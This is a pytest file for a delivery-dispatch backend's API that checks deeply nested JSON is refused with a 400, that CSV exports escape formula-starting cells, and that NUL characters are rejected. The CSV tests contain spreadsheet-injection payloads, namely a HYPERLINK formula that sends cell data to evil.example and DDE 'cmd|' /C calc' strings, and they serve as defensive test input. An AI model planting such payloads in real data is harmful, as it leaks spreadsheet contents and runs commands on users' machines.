"""Hostile input gets a clear 4xx, never a 500: deep JSON; spreadsheets never run what customers typed."""
import csv
import io

import pytest

from tests.support import order_payload


@pytest.mark.sqlite_only
@pytest.mark.parametrize("body", ["[" * 100_000, "[" * 5_000 + "]" * 5_000, '{"a":' * 900 + "1" + "}" * 900,
                                  '{"login": ' + "[" * 70 + "]" * 70 + ', "password": "x"}'])
def test_deeply_nested_json_is_a_400_not_a_500(app, dispatcher, body):
    anonymous = app.test_client()
    for client, path in ((anonymous, "/api/v1/auth/login"), (dispatcher, "/api/v1/orders"),
                         (dispatcher, "/api/v1/vroom"), (dispatcher, "/api/v1/routes")):
        response = client.post(path, data=body, headers={"Content-Type": "application/json"})
        assert response.status_code == 400, (path, response.status_code)
        # The vroom-express endpoint answers in VROOM's shape (code 2: bad input), the rest as problems.
        assert response.get_json()["code"] == (2 if path == "/api/v1/vroom" else "bad_json"), path
    # Ordinary nesting still works.
    assert dispatcher.post("/api/v1/orders", json=order_payload("DEEP-OK")).status_code == 201


def test_exported_csv_cells_never_start_a_formula(dispatcher):
    formulas = {
        "external_ref": "=HYPERLINK(\"https://evil.example/?\"&A1,\"Open\")",
        "address": "@SUM(1+9)*cmd|' /C calc'!A0",
        "notes": "-2+3+cmd|' /C calc'!A0",
        "delivery_instructions": "\t=1+1",
    }
    payload = order_payload("X", **{k: v for k, v in formulas.items() if k != "external_ref"},
                            recipient={"name": "+SUM(A1:A9)", "phone": "+15145550999", "language": "en"})
    payload["external_ref"] = formulas["external_ref"]
    created = dispatcher.post("/api/v1/orders", json=payload)
    assert created.status_code == 201, created.get_json()
    exported = dispatcher.get("/api/v1/orders/export.csv")
    [row] = list(csv.DictReader(io.StringIO(exported.get_data(as_text=True))))
    for column, typed in list(formulas.items()) + [("recipient_name", "+SUM(A1:A9)")]:
        assert row[column] == "'" + typed, column
    # Numbers stay numbers: a negative longitude, a phone number in E.164.
    assert row["lon"] == "-73.5853" and row["recipient_phone"] == "+15145550999"


def test_analytics_csv_cells_never_start_a_formula(app):
    from backend.analytics.views import csv_response

    with app.test_request_context():
        response = csv_response([{"driver": "=cmd|' /C calc'!A0", "value": -3.5, "note": "@here",
                                  "kpis": {"on_time_rate": -0.25}}], "x")
    [row] = list(csv.DictReader(io.StringIO(response.get_data(as_text=True))))
    assert row == {"driver": "'=cmd|' /C calc'!A0", "value": "-3.5", "note": "'@here", "on_time_rate": "-0.25"}


def test_nul_characters_are_refused_before_the_database_sees_them(app, org, dispatcher):
    """PostgreSQL cannot store U+0000 (it answered 500); SQLite stored it silently. Both refuse it now."""
    nested = order_payload("NUL-1", recipient={"name": "Ana\u0000", "phone": "+15145550999", "language": "en"})
    for response, field in (
            (dispatcher.post("/api/v1/orders", json=order_payload("N\u0000UL")), "external_ref"),
            (dispatcher.post("/api/v1/orders", json=nested), "recipient"),
            (dispatcher.get("/api/v1/orders?q=ab%00c"), "q"),
            (app.test_client().post("/api/v1/auth/login", json={"login": "a\u0000@b.test", "password": "x"}), "login"),
            (org.as_role("driver").post("/api/v1/driver/uploads", data={"kind": "photo\u0000",
                                                                          "idempotency_key": "k" * 10},
                                        content_type="multipart/form-data"), "kind")):
        assert response.status_code == 422, (field, response.status_code)
        assert field in response.get_json()["fields"], (field, response.get_json())
    assert dispatcher.get("/api/v1/orders").get_json()["total"] == 0
